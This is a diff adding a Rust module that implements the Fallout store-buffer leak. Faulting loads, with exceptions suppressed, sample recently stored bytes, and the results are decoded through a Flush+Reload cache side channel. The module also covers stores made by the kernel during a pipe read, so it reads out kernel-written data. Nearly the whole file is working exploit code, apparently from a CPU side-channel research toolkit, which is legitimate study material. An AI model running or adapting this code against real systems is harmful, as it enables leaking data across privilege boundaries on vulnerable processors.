@@ -0,0 +1,205 @@
+//! Fallout, leaking recent stores from the store buffer. A load that faults
+//! is matched against pending stores by the low 12 bits of its address
+//! alone, and on affected parts is handed the data of one whose bits match
+//! before the fault is raised, whatever page the store went to.
+//!
+//! A byte is planted with a store to one page and sampled with a faulting
+//! load at the same offset into another. The store is either the process's
+//! own, or one the kernel makes while copying data out to the process in a
+//! `read` from a pipe, which leaks a kernel store right after the syscall
+//! returns.
+
+use libc;
+use std::io;
+use std::ptr;
+
+use channel::Channel;
+use covert::CovertChannel;
+use probe_buf::ProbeBuffer;
+use reader::{allocate_probe_buf, ByteGuess, TIMINGS_PER_GUESS};
+use receiver::Receiver;
+use suppress::{ExceptionSuppressor, Suppression};
+use PAGE_SIZE;
+
+// samples taken per planted byte, each decoded from TIMINGS_PER_GUESS
+// faulting loads
+const ROUNDS: usize = 16;
+
+/// Who makes the store that gets sampled.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub enum StoreSource {
+    /// A plain store by the sampling thread.
+    User,
+    /// The kernel's `copy_to_user` during a `read` from a pipe.
+    Kernel,
+}
+
+/// How the samples of one planted byte came out.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub struct StoreSample {
+    /// The planted byte.
+    pub planted: u8,
+    /// The value the samples agreed on most.
+    pub guess: ByteGuess,
+    /// Samples that decoded to any value.
+    pub hits: usize,
+    /// Samples that decoded to the planted byte.
+    pub matches: usize,
+}
+
+// a pipe, to have the kernel store bytes into the process
+struct Pipe {
+    read: libc::c_int,
+    write: libc::c_int,
+}
+
+impl Pipe {
+    fn new() -> io::Result<Pipe> {
+        let mut fds = [0; 2];
+        if unsafe { libc::pipe(fds.as_mut_ptr()) } != 0 {
+            return Err(io::Error::last_os_error());
+        }
+        Ok(Pipe {
+            read: fds[0],
+            write: fds[1],
+        })
+    }
+
+    // has the kernel store byte at dest
+    unsafe fn store(&self, dest: *mut u8, byte: u8) {
+        libc::write(self.write, &byte as *const u8 as *const libc::c_void, 1);
+        libc::read(self.read, dest as *mut libc::c_void, 1);
+    }
+}
+
+impl Drop for Pipe {
+    fn drop(&mut self) {
+        unsafe {
+            libc::close(self.read);
+            libc::close(self.write);
+        }
+    }
+}
+
+/// Samples the store buffer with faulting loads, and receives through a
+/// Flush+Reload cache side channel.
+pub struct StoreBufferSampler<S: ExceptionSuppressor = Suppression> {
+    suppressor: S,
+    receiver: Receiver,
+    // where planted bytes are stored
+    stores: ProbeBuffer,
+    // a page with no access, which every sampling load faults on
+    faulting: *const u8,
+    pipe: Pipe,
+}
+
+impl StoreBufferSampler {
+    /// Creates a sampler using the best suppression strategy this CPU
+    /// supports.
+    pub fn new() -> io::Result<StoreBufferSampler> {
+        StoreBufferSampler::with_suppressor(Suppression::detect())
+    }
+}
+
+impl<S: ExceptionSuppressor> StoreBufferSampler<S> {
+    /// Allocates the probe buffer and the pages to store to and sample
+    /// from, prepares the given fault suppressor, and calibrates the cache
+    /// hit threshold.
+    pub fn with_suppressor(suppressor: S) -> io::Result<StoreBufferSampler<S>> {
+        suppressor.install()?;
+        let channel = Channel::Page;
+        let probe_buf = allocate_probe_buf(&suppressor, channel, false)?;
+        let receiver = Receiver::new(probe_buf, channel);
+        let stores = ProbeBuffer::private(PAGE_SIZE, false)?;
+        let pipe = Pipe::new()?;
+        let faulting = unsafe {
+            libc::mmap(
+                ptr::null_mut(),
+                PAGE_SIZE,
+                libc::PROT_NONE,
+                libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
+                -1,
+                0,
+            )
+        };
+        if faulting == libc::MAP_FAILED {
+            return Err(io::Error::last_os_error());
+        }
+        Ok(StoreBufferSampler {
+            suppressor,
+            receiver,
+            stores,
+            faulting: faulting as *const u8,
+            pipe,
+        })
+    }
+
+    pub fn suppressor(&self) -> &S {
+        &self.suppressor
+    }
+
+    /// The probe buffer the attack leaks through, and its calibration.
+    pub fn receiver(&self) -> &Receiver {
+        &self.receiver
+    }
+
+    /// The address every sampling load is made at, plus the offset.
+    pub fn faulting_addr(&self) -> *const u8 {
+        self.faulting
+    }
+
+    /// Plants `planted` at `offset` into a page with a store by `source`
+    /// before every faulting load at the same offset into another page.
+    pub fn sample(&self, source: StoreSource, offset: usize, planted: u8) -> StoreSample {
+        assert!(offset < PAGE_SIZE);
+        let mut order = self.receiver.order();
+        let mut channel = self.receiver.channel(&mut order);
+        let store = self.stores.as_ptr().wrapping_add(offset) as *mut u8;
+        let load = self.faulting.wrapping_add(offset);
+
+        let mut hit_counts = [0usize; 256];
+        for _ in 0..ROUNDS {
+            for _ in 0..TIMINGS_PER_GUESS {
+                unsafe {
+                    channel.prepare(1);
+                    match source {
+                        StoreSource::User => store.write_volatile(planted),
+                        StoreSource::Kernel => self.pipe.store(store, planted),
+                    }
+                    {
+                        let channel = &channel;
+                        self.suppressor.suppress(#[inline(always)]
+                        || channel.encode(0, load.read_volatile()));
+                    }
+                    channel.receive(1);
+                }
+            }
+            if let Some(byte) = channel.decode(1)[0] {
+                hit_counts[byte as usize] += 1
+            }
+        }
+        StoreSample {
+            planted,
+            guess: ByteGuess::from_hit_counts(&hit_counts, ROUNDS),
+            hits: hit_counts.iter().sum(),
+            matches: hit_counts[planted as usize],
+        }
+    }
+
+    /// `sample` for every byte of `pattern`, at most a page of it, planted at
+    /// consecutive offsets from the start of the page.
+    pub fn sample_pattern(&self, source: StoreSource, pattern: &[u8]) -> Vec<StoreSample> {
+        assert!(pattern.len() <= PAGE_SIZE);
+        pattern
+            .iter()
+            .enumerate()
+            .map(|(offset, &planted)| self.sample(source, offset, planted))
+            .collect()
+    }
+}
+
+impl<S: ExceptionSuppressor> Drop for StoreBufferSampler<S> {
+    fn drop(&mut self) {
+        unsafe { libc::munmap(self.faulting as *mut libc::c_void, PAGE_SIZE) };
+    }
+}